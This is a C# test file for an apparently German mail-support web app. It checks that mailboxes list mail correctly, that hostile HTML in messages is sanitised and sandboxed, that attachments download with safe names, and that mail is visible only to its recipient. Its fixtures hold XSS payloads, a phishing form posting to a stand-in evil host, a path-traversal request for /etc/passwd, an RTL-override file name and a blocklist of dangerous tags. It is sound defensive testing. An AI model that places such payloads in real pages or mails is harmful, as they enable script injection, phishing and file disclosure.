using System.Net;
using Siegelpost.Tests.Browser;

namespace Siegelpost.Tests.Support;

public sealed class MailboxTests(Chromium chromium) : IClassFixture<Chromium>
{
    private const string Hostile = """
        <p onclick="steal()">Guten Tag</p><script>document.title='owned'</script><img src="https://tracker.example/pixel.gif" onerror="steal()">
        <form action="https://evil.example/"><input name="password"><button>Anmelden</button></form><iframe src="https://evil.example/"></iframe>
        <div style="background:url(https://tracker.example/bg.gif);color:red">rot</div><link rel="stylesheet" href="https://evil.example/x.css">
        <svg><script>steal()</script></svg><a href="javascript:steal()">Klick</a><a href="https://firma.example/seite">Link</a><img src="cid:logo"><base href="https://evil.example/">
        <meta http-equiv="refresh" content="0;url=https://evil.example/"><img src="data:image/svg+xml,<svg onload=steal()>"><object data="x"></object>
        """;

    [Fact]
    public async Task The_mailboxes_list_people_and_their_mails_and_what_is_new()
    {
        await using var host = await SupportHost.Start("Development", outbox: true);
        await Letters.Deliver(host.Outbox);
        var newcomer = host.Client(signedIn: false);
        var list = WebUtility.HtmlDecode(await newcomer.GetStringAsync("/mailboxes"));
        Assert.Contains("Bert Klein", list);
        Assert.Contains("1 neu", list);
        var box = WebUtility.HtmlDecode(await newcomer.GetStringAsync("/mailboxes/bert@kunde.example"));
        Assert.Contains("Anna Groß möchte Ihnen schreiben", box);
        Assert.Contains("Neu", box);

        var letter = await newcomer.GetStringAsync($"/mailboxes/bert@kunde.example/{host.Outbox.MailsTo("bert@kunde.example")[0].Id}");
        Assert.Contains("""<a href="http://127.0.0.1:8080/e/abc" target="_blank" rel="noopener noreferrer">""", letter);
        Assert.Contains("&lt;b&gt;kein HTML&lt;/b&gt;", letter);
        Assert.DoesNotContain("Neu<", await newcomer.GetStringAsync("/mailboxes/bert@kunde.example"));
    }

    [Fact]
    public async Task Hostile_html_does_no_harm_in_the_frame()
    {
        await using var host = await SupportHost.Start("Development", outbox: true);
        var id = await Letters.Deliver(host.Outbox, "x@evil.example", Letters.Build("X", "x@evil.example", "Bert", "bert@kunde.example", "<script>", "t", Hostile));
        var answer = await host.Client(signedIn: false).GetAsync($"/mailboxes/bert@kunde.example/{id}/html");
        var html = await answer.Content.ReadAsStringAsync();
        foreach (var bad in new[] { "<script", "onclick", "onerror", "steal", "<form", "<input", "<iframe", "<link", "<base", "refresh", "javascript:", "tracker.example", "<object", "svg" })
            Assert.DoesNotContain(bad, html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("src=\"data:image/png;base64,", html);
        Assert.Contains("<a href=\"https://firma.example/seite\" target=\"_blank\" rel=\"noopener noreferrer\">Link</a>", html);
        var policy = Assert.Single(answer.Headers.GetValues("Content-Security-Policy"));
        Assert.Contains("default-src 'none'", policy);
        Assert.Contains("sandbox", policy);
        Assert.DoesNotContain("allow-scripts", policy);
        Assert.DoesNotContain("allow-same-origin", policy);
    }

    [Fact]
    public async Task A_browser_shows_the_mail_asks_nobody_else_and_opens_links_in_a_tab_of_their_own()
    {
        await using var host = await SupportHost.Start("Development", outbox: true);
        var id = await Letters.Deliver(host.Outbox, "x@evil.example", Letters.Build("X", "x@evil.example", "Bert", "bert@kunde.example", "Hallo", "t",
            Hostile + $"<p><a href=\"{host.Support}healthz\">Weiter</a></p>"));
        var page = await chromium.Open(host.Support);
        var strangers = new List<string>();
        page.Request += (_, request) => { if (!request.Url.StartsWith(host.Support.ToString(), StringComparison.Ordinal) && !request.Url.StartsWith("data:", StringComparison.Ordinal)) strangers.Add(request.Url); };
        await page.GotoAsync($"/mailboxes/bert@kunde.example/{id}");
        var frame = page.FrameLocator("iframe");
        await frame.GetByText("Guten Tag").WaitForAsync();
        var opened = await page.Context.RunAndWaitForPageAsync(() => frame.GetByText("Weiter").ClickAsync());
        await opened.WaitForLoadStateAsync();
        Assert.EndsWith("/healthz", opened.Url);
        Assert.Contains("Hallo", await page.TitleAsync());
        Assert.Empty(strangers);
        await page.Context.CloseAsync();
    }

    [Fact]
    public async Task Files_are_downloads_with_harmless_names_and_the_mail_is_there_byte_for_byte()
    {
        await using var host = await SupportHost.Start("Development", outbox: true);
        var id = await Letters.Deliver(host.Outbox, "a@firma.example", Letters.Build("A", "a@firma.example", "Bert", "bert@kunde.example", "Dateien", "t", null,
            body => body.Attachments.Add("../../Über\u202Efdp.html", "<script>alert(1)</script>"u8.ToArray(), new MimeKit.ContentType("text", "html"))));
        var client = host.Client(signedIn: false);
        var file = await client.GetAsync($"/mailboxes/bert@kunde.example/{id}/parts/1");
        Assert.Equal("application/octet-stream", file.Content.Headers.ContentType!.MediaType);
        Assert.Equal("attachment", file.Content.Headers.ContentDisposition!.DispositionType);
        var name = file.Content.Headers.ContentDisposition.FileNameStar ?? file.Content.Headers.ContentDisposition.FileName!;
        Assert.DoesNotContain('/', name);
        Assert.DoesNotContain('\u202E', name);
        Assert.Equal("<script>alert(1)</script>", await file.Content.ReadAsStringAsync());
        Assert.Equal(HttpStatusCode.NotFound, (await client.GetAsync($"/mailboxes/bert@kunde.example/{id}/parts/2")).StatusCode);

        using var stored = new MemoryStream();
        await using (var stream = host.Outbox.Open(id)!) await stream.CopyToAsync(stored);
        Assert.Equal(stored.ToArray(), await client.GetByteArrayAsync($"/mailboxes/bert@kunde.example/{id}/mail.eml"));
    }

    [Fact]
    public async Task A_mail_is_in_its_recipients_mailbox_only()
    {
        await using var host = await SupportHost.Start("Development", outbox: true);
        await Letters.Deliver(host.Outbox);
        var id = host.Outbox.MailsTo("bert@kunde.example")[0].Id;
        foreach (var path in new[] { $"/mailboxes/anna@firma.example/{id}", $"/mailboxes/anna@firma.example/{id}/html", $"/mailboxes/anna@firma.example/{id}/mail.eml", "/mailboxes/bert@kunde.example/..%2f..%2fetc%2fpasswd", "/mailboxes/nobody@kunde.example" })
            Assert.Equal(HttpStatusCode.NotFound, (await host.Client(signedIn: false).GetAsync(path)).StatusCode);
    }

    [Fact]
    public async Task What_is_no_mail_does_not_break_the_mailbox()
    {
        await using var host = await SupportHost.Start("Development", outbox: true);
        var id = await host.Outbox.Write("", ["bert@kunde.example"], new byte[] { 0, 255, 10, 13, 0, 1 });
        var client = host.Client(signedIn: false);
        foreach (var path in new[] { "/mailboxes", "/mailboxes/bert@kunde.example", $"/mailboxes/bert@kunde.example/{id}" })
            Assert.Equal(HttpStatusCode.OK, (await client.GetAsync(path)).StatusCode);
    }
}
